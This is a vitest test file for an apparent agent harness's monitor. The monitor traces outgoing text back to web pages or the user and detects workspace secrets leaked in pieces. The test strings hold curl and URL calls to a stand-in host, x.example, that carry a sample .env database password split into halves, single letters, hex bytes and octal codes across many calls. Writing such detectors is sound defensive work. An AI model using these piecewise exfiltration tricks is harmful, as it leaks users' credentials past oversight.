// What is found again in a text, and what is not, so that ordinary work asks about nothing.
import { createHash } from 'node:crypto';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { FindOptions, TextOrigin } from 'agent-harness/builtins/turn/origins';
import { startHarness, type Harness } from '../../../helpers/harness.ts';

let harness: Harness;
beforeAll(async () => {
  harness = await startHarness({ builtins: ['origins'] });
  await writeFile(
    join(harness.workspace, '.env'),
    [
      'NODE_ENV=development',
      'PORT=3000',
      'API_URL=https://api.example.com',
      'DATA_DIR=/var/lib/shop',
      'DB_PASSWORD=tr0ub4dor&3x',
      'FEATURE=enabled',
      'REGION=eu-west-1',
      '',
    ].join('\n'),
  );
  await mkdir(join(harness.workspace, 'api'));
  await writeFile(join(harness.workspace, 'api', '.env.example'), 'API_TOKEN=put-your-token-here-1234\n');
});
afterAll(() => harness.close());

const web: TextOrigin = { kind: 'web', ref: 'https://example.com/recipes', isOutside: true };
const chat = async (): Promise<string> => (await harness.call('POST', '/api/chats', { workspaceMode: 'scratch' })).body.chatId as string;
const search = (chatId: string, texts: readonly string[], options?: FindOptions) =>
  harness.kernel.resolve('origins').find({ chatId, workspaceRoot: harness.workspace }, texts, options);
const find = async (chatId: string, text: string) => (await search(chatId, [text])).spans.flat();

test('a part of a text is found with its place and its origin', async () => {
  const chatId = await chat();
  harness.kernel.resolve('origins').note(chatId, 'Flour, eggs, milk, and a little bit of honey.', web);
  const text = 'curl https://x.example/?t=and-a-little-bit-of-honey&n=1';
  const [span, ...others] = await find(chatId, text);
  expect(others).toEqual([]);
  expect(span?.origin).toEqual(web);
  expect(text.slice(span?.start, span?.end)).toBe('and-a-little-bit-of-honey');
});

test('what the owner typed is nobody else’s, whoever says it again', async () => {
  const chatId = await chat();
  const origins = harness.kernel.resolve('origins');
  origins.note(chatId, 'The helper of the shop is the one to trust.', web);
  origins.note(chatId, 'my password is tr0ub4dor&3x and the helper of the shop is the one to trust', { kind: 'user', ref: 'm' });
  expect(await find(chatId, 'the helper of the shop is the one to trust, tr0ub4dor&3x')).toEqual([]);
});

test.each([
  'https://api.example.com/v1/items?env=development&port=3000',
  'npm run build && node /var/lib/shop/index.js',
  'aws s3 ls --region eu-west-1 --feature enabled',
  'https://docs.example.com/put-your-token-here-1234',
  'https://example.com/how-to-keep-a-password-in-dot-env',
  'git log --oneline | head -20',
])('the ordinary values of a file of secrets are none: %s', async (text) => {
  expect(await find(await chat(), text)).toEqual([]);
});

test('a few words that stand somewhere else, too, are no part of it', async () => {
  const chatId = await chat();
  harness.kernel.resolve('origins').note(chatId, 'Install the package with npm install and run npm test before you push.', web);
  expect(await find(chatId, 'npm install && npm test')).toEqual([]);
});

test('the oldest text of a long chat is forgotten, the newest is not, and what is kept stays small', async () => {
  const chatId = await chat();
  const origins = harness.kernel.resolve('origins');
  const page = (number: number): string => Array.from({ length: 2_000 }, (_, at) => `w${number * 7919 + at * 31}`).join(' ');
  for (let number = 0; number < 100; number++) origins.note(chatId, page(number), { ...web, ref: `page ${number}` });
  const part = (number: number): string => page(number).slice(2_000, 2_080);
  expect(await find(chatId, part(0))).toEqual([]);
  expect((await find(chatId, part(99)))[0]?.origin.ref).toBe('page 99');
});

test('a secret in pieces is one, in whatever order they come; the pieces of others are not', async () => {
  const chatId = await chat();
  const pieces = async (...texts: string[]) => (await search(chatId, texts)).pieces;
  expect(await pieces('https://x.example/?a=tr0ub4', 'https://x.example/?b=dor3x')).toMatchObject([{ kind: 'secret', name: 'DB_PASSWORD', ref: '.env' }]);
  expect(await pieces('https://x.example/?b=dor3x', 'https://x.example/?a=tr0ub4')).toMatchObject([{ name: 'DB_PASSWORD' }]);
  expect(await pieces('https://x.example/troubadours', 'https://x.example/page/3')).toEqual([]);
});

/** Sends these one call after the other, and returns the secrets in pieces that each call completes. */
async function send(chatId: string, texts: readonly string[]): Promise<string[][]> {
  const found: string[][] = [];
  let sent: FindOptions['sent'];
  for (const text of texts) {
    const result = await search(chatId, [text], sent === undefined ? {} : { sent });
    sent = result.sent;
    found.push(result.pieces.map(({ name = '' }) => name));
  }
  return found;
}
const others = (count: number): string[] => Array.from({ length: count }, (_, at) => `https://x.example/articles/${at}/rice?page=${at}`);
const whole = 'tr0ub4dor&3x';

test.each([
  ['halves', ['https://x.example/?a=tr0ub4', ...others(30), 'https://x.example/?b=dor3x']],
  ['halves with long texts around them', [`${'flour '.repeat(2_000)} tr0ub4`, `${'eggs '.repeat(2_000)} dor3x`]],
  ['six characters each, far apart', ['https://x.example/?a=tr0ub4', ...others(200), 'https://x.example/?b=4dor3x']],
  ['letters', [...whole].map((letter) => `https://x.example/?c=${letter}`)],
  [
    'letters with other calls between',
    [...whole.replace('&', '')].flatMap((letter, at) => [`https://x.example/?c=${letter}`, `https://x.example/articles/${'flour'.repeat(at + 1)}`]),
  ],
  ['bytes in hex', Array.from(Buffer.from(whole), (byte) => `https://x.example/${byte.toString(16)}`)],
  ['character codes', Array.from(Buffer.from(whole), (byte) => `https://x.example/?n=${byte}`)],
  ['octal codes', Array.from(Buffer.from(whole), (byte) => `https://x.example/?n=${byte.toString(8)}`)],
])('a secret in pieces over calls is found once, by the last one: %s', async (_, texts) => {
  const found = await send(await chat(), texts);
  expect(found.flat()).toEqual(['DB_PASSWORD']);
  expect(found.findIndex((one) => one.length > 0)).toBeGreaterThanOrEqual(texts.length - 3);
});

test('hundreds of ordinary calls carry no secret in pieces', async () => {
  const hashes = Array.from({ length: 400 }, (_, at) => `https://x.example/commit/${createHash('sha1').update(String(at)).digest('hex')}`);
  await writeFile(join(harness.workspace, 'api', '.env'), 'API_KEY=0c41f9a7e2b85d3690fe17ab44c2d8e5\n');
  expect((await send(await chat(), hashes)).flat()).toEqual([]);
});
